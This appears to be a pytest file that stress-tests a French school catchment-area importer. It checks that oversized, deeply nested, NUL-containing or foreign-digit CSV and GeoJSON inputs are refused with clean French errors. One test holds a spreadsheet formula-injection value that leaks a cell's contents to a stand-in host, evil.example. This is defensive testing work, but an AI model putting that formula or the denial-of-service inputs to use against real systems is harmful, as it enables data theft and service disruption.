"""Carte scolaire files written to hurt: rows repeated by the thousand, numbers of thousands of digits,
GeoJSON nested beyond any geometry, codes in other scripts' digits. Each is refused (or imported) with a
clean report, in a time linear in its rows, and changes nothing when refused.
"""

import gc
import json
import time

import pytest

from mon_enfant.catchment import services
from mon_enfant.catchment.importers import SIMPLE_COLUMNS, import_catchment
from mon_enfant.catchment.models import CatchmentImport, CatchmentRule, CatchmentZone
from mon_enfant.csvfiles import ImportFileError
from mon_enfant.models import Commune

from ..conftest import TEST_DATA

pytestmark = pytest.mark.django_db

NATIONAL = TEST_DATA / "carte-scolaire-colleges-35-extrait.csv"
SIMPLE_HEADER = ";".join(SIMPLE_COLUMNS)
CHARCOT, CHATEAUBRIAND = "0350896J", "0350044H"


@pytest.fixture(autouse=True)
def fresh_index():
    services.reset()
    yield
    services.reset()


def simple(*rows):
    lines = [SIMPLE_HEADER]
    for row in rows:
        lines.append(";".join(str(row.get(name, "")) for name in SIMPLE_COLUMNS))
    return ("\n".join(lines) + "\n").encode("utf-8")


def repeated_rule(index):
    """The same street, the same whole range, two schools in turn: every pair of rows overlaps."""
    return {"code_insee": "35288", "niveau": "elementaire", "voie": "Rue du Moulin", "parite": "tous",
            "du": "1", "au": "99", "uai": CHARCOT if index % 2 else CHATEAUBRIAND}


SQUARE = {"type": "Polygon", "coordinates": [[[-2.03, 48.64], [-2.0, 48.64], [-2.0, 48.66], [-2.03, 48.64]]]}


def zone_feature(**properties):
    """A valid zone of Saint-Malo; ``properties`` replace or add to its own."""
    return {"type": "Feature", "geometry": SQUARE,
            "properties": {"code_insee": "35288", "niveau": "maternelle", "uai": CHARCOT, **properties}}


def best_time(data, repeat=3):
    """The best CPU time of this process over a few runs, without garbage collector pauses: other processes
    of a busy machine then hardly move it (a wall-clock ratio did)."""
    best = None
    gc.disable()
    try:
        for _ in range(repeat):
            start = time.process_time()
            import_catchment(data, dry_run=True)
            elapsed = time.process_time() - start
            best = elapsed if best is None else min(best, elapsed)
    finally:
        gc.enable()
    return best


def test_a_file_of_repeated_rules_imports_in_time_linear_in_its_rows(commune_a):
    # Four times the rows: linear is about 4, quadratic 16; the bound leaves room for a loaded machine's
    # cache and frequency changes, which even CPU time feels (2x with a bound of 3 failed once under load).
    rows = 1000
    small = simple(*(repeated_rule(index) for index in range(rows)))
    large = simple(*(repeated_rule(index) for index in range(4 * rows)))
    best_time(small, repeat=1)  # warm-up: translations, querysets
    ratio = best_time(large) / best_time(small)
    assert ratio < 8, f"four times the rows took {ratio:.1f} times as long"


def test_the_report_lists_a_bounded_number_of_overlaps_and_counts_them_all(commune_a):
    rows = 400
    report = import_catchment(simple(*(repeated_rule(index) for index in range(rows))), dry_run=True)
    (scope,) = report.scopes
    pairs = rows * (rows - 1) // 2
    same_school = 2 * ((rows // 2) * (rows // 2 - 1) // 2)
    assert report.duplicate_count == same_school
    assert report.shared_sector_count == pairs - same_school
    assert report.conflict_count == 0
    assert 0 < len(scope.shared_sectors) <= 100
    assert len(scope.duplicates) <= 100
    assert "Chevauchements : 0 conflits, 40000 secteurs partagés, 39800 doublons." in report.summary_lines()


def test_a_file_longer_than_the_row_limit_is_refused_before_anything_is_checked(commune_a, settings):
    settings.MON_ENFANT_IMPORT_MAX_ROWS = 10
    with pytest.raises(ImportFileError) as refused:
        import_catchment(simple(*(repeated_rule(index) for index in range(11))))
    assert [str(error) for error in refused.value.errors] == [
        "Le fichier compte plus de 10 lignes, le maximum accepté (réglage MON_ENFANT_IMPORT_MAX_ROWS) : "
        "découpez-le, par exemple une commune par fichier."
    ]
    assert not CatchmentRule.objects.exists()
    import_catchment(simple(*(repeated_rule(index) for index in range(10))))
    assert CatchmentRule.objects.count() == 10


def test_a_geojson_with_more_features_than_the_row_limit_is_refused_in_features_not_lines(commune_a, settings):
    settings.MON_ENFANT_IMPORT_MAX_ROWS = 2
    data = json.dumps({"type": "FeatureCollection", "features": [zone_feature()] * 3}).encode()
    with pytest.raises(ImportFileError) as refused:
        import_catchment(data)
    assert [str(error) for error in refused.value.errors] == [
        "Le fichier GeoJSON compte plus de 2 objets (« features »), le maximum accepté (réglage "
        "MON_ENFANT_IMPORT_MAX_ROWS) : découpez-le, par exemple une commune par fichier."
    ]


HUGE = "9" * 5000


@pytest.mark.parametrize("column", ["no_de_voie_debut", "no_de_voie_fin"])
def test_a_national_house_number_of_thousands_of_digits_is_refused_with_its_line(commune_a, column):
    lines = NATIONAL.read_bytes().decode("utf-8-sig").split("\r\n")
    header = lines[0].split(";")
    index = [name.lower() for name in header].index(column)
    cells = lines[1].split(";")
    cells[index] = HUGE
    data = "\r\n".join([lines[0], ";".join(cells)]).encode()
    with pytest.raises(ImportFileError) as refused:
        import_catchment(data, create_communes=True)
    (error,) = refused.value.errors
    assert error.line == 2
    assert "hors limites (99999 au plus)" in str(error)
    assert len(str(error)) < 200


@pytest.mark.parametrize("column", ["du", "au"])
def test_a_simple_house_number_of_thousands_of_digits_is_refused_with_its_line(commune_a, column):
    with pytest.raises(ImportFileError) as refused:
        import_catchment(simple({**repeated_rule(0), column: HUGE}))
    (error,) = refused.value.errors
    assert error.line == 2
    assert "hors limites (99999 au plus)" in str(error)
    assert len(str(error)) < 200


def test_a_priority_of_thousands_of_digits_is_refused_with_its_line(commune_a):
    with pytest.raises(ImportFileError) as refused:
        import_catchment(simple({**repeated_rule(0), "priorite": HUGE}))
    (error,) = refused.value.errors
    assert error.line == 2
    assert "priorité" in str(error)


def test_a_geojson_nested_deeper_than_any_geometry_is_refused(commune_a):
    data = b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    with pytest.raises(ImportFileError) as refused:
        import_catchment(data)
    (error,) = refused.value.errors
    assert "imbriqu" in str(error)


def zones_file(*features):
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


def refusal(data, **options):
    """The errors of a refused import, which changed nothing."""
    with pytest.raises(ImportFileError) as refused:
        import_catchment(data, **options)
    assert not CatchmentRule.objects.exists() and not CatchmentZone.objects.exists()
    assert not CatchmentImport.objects.exists()
    return [str(error) for error in refused.value.errors]


def test_a_geojson_priority_of_thousands_of_digits_is_refused(commune_a):
    with pytest.raises(ImportFileError, match="priorité"):
        import_catchment(zones_file(zone_feature(priorite=HUGE)))


def test_a_geojson_number_of_thousands_of_digits_is_refused_in_french(commune_a):
    """Python's JSON parser refuses an integer of more than 4,300 digits with an English message."""
    data = zones_file(zone_feature()).replace(b'"niveau"', b'"priorite": ' + HUGE.encode() + b', "niveau"')
    assert refusal(data) == ["JSON refusé : un nombre compte des milliers de chiffres, ce qu'aucune carte ne demande."]


def test_unreadable_json_is_refused_in_french_with_its_line_and_column(commune_a):
    data = b'{"type": "FeatureCollection",\n "features": [\n  {"type": "Feature",, }]}'
    assert refusal(data) == [
        "Ligne 3 : JSON illisible à la colonne 22 (virgule, guillemet, crochet ou accolade manquant ou en trop ?)."
    ]


@pytest.mark.parametrize("document", [b"null", b"42", b' \n"zones"\n', b"true"])
def test_a_json_document_that_is_not_an_object_gets_the_geojson_refusal(commune_a, document):
    assert refusal(document) == [
        "GeoJSON refusé : une FeatureCollection (« type »: « FeatureCollection », « features »: [...]) est attendue."
    ]


@pytest.mark.parametrize("where", ["name", "note", "key"])
def test_a_nul_character_written_as_a_json_escape_is_refused_with_its_line(commune_a, where):
    """``\\u0000`` in a JSON string is a NUL once parsed: PostgreSQL stores none, in text or in jsonb."""
    properties = {"name": {"nom": "Intra\x00muros"}, "note": {"remarque": "a\x00"}, "key": {"cl\x00e": "x"}}[where]
    text = json.dumps({"type": "FeatureCollection", "features": [zone_feature(), zone_feature(**properties)]},
                      indent=1)
    line = next(number for number, content in enumerate(text.split("\n"), start=1) if "\\u0000" in content)
    assert refusal(text.encode()) == [
        f"Ligne {line} : caractère nul (U+0000) refusé : ce caractère invisible, souvent laissé par un export, "
        "ne peut pas être enregistré. Supprimez-le du fichier."
    ]


def test_an_escaped_backslash_before_u0000_is_no_nul_character(commune_a):
    import_catchment(zones_file(zone_feature(nom="C:\\u0000")))
    assert CatchmentZone.objects.get().name == "C:\\u0000"


def test_a_huge_zone_name_is_quoted_in_forty_characters(commune_a):
    (error,) = refusal(zones_file(zone_feature(nom="Z" * 1_000_000)))
    assert error == f"Zone n° 1 (« {'Z' * 40}… ») : nom trop long (200 caractères au plus)."


@pytest.mark.parametrize("digits", ["\u0663", "1\u0660", "\uff13"])
def test_a_geojson_priority_in_another_scripts_digits_is_refused(commune_a, digits):
    (error,) = refusal(zones_file(zone_feature(priorite=digits)))
    assert "priorité" in error


@pytest.mark.parametrize("year", ["\u0662\u0660\u0662\u0666-\u0662\u0660\u0662\u0667", "２０２６-２０２７"])
def test_a_school_year_in_another_scripts_digits_is_refused(commune_a, year):
    (error,) = refusal(simple({**repeated_rule(0), "annee_scolaire": year}))
    assert "n'est pas une année scolaire" in error


def test_a_polygon_crossing_itself_is_explained_in_french(commune_a):
    bow_tie = {"type": "Polygon", "coordinates": [
        [[-2.03, 48.64], [-2.00, 48.66], [-2.00, 48.64], [-2.03, 48.66], [-2.03, 48.64]]]}
    (error,) = refusal(zones_file({**zone_feature(), "geometry": bow_tie}))
    assert error == (
        "Zone n° 1 : GeoJSON refusé : polygone invalide (contour qui se recoupe ou parties qui se chevauchent) ; "
        "le contour se recoupe près de la position [-2.015, 48.65]."
    )


def test_a_multipolygon_names_its_polygon_with_the_contraction_du(commune_a):
    open_ring = [[-2.03, 48.64], [-2.0, 48.64], [-2.0, 48.66], [-2.03, 48.66]]
    multi = {"type": "MultiPolygon", "coordinates": [SQUARE["coordinates"], [open_ring]]}
    (error,) = refusal(zones_file({**zone_feature(), "geometry": multi}))
    assert "le contour extérieur du polygone n° 2 n'est pas fermé" in error


@pytest.mark.parametrize("code", ["3528\u0668", "\u0663\u0665288", "３５２８８"])
def test_an_insee_code_written_with_non_ascii_digits_is_refused(code):
    with pytest.raises(ImportFileError) as refused:
        import_catchment(simple({**repeated_rule(0), "code_insee": code}), create_communes=True)
    assert refused.value.errors[0].line == 2
    assert not Commune.objects.exists()


def test_a_name_that_looks_like_a_formula_is_kept_as_typed(commune_a):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    import_catchment(simple({**repeated_rule(0), "voie": "Rue du Moulin", "remarque": formula}))
    assert CatchmentRule.objects.get().note == formula


def test_each_scope_record_keeps_a_bounded_copy_of_the_file_report(settings):
    """A file of thousands of communes makes thousands of records: each one must not list every commune."""
    communes = [f"35{index:03d}" for index in range(1, 601)]
    rows = [{**repeated_rule(0), "code_insee": code, "commune": f"Commune {code}"} for code in communes]
    import_catchment(simple(*rows), create_communes=True)
    record = CatchmentImport.objects.get(commune__code_insee="35288")
    assert record.report["file"]["commune_count"] == 600
    assert len(record.report["file"]["communes"]) == 500
    assert len(record.report["file"]["communes_created"]) == 500
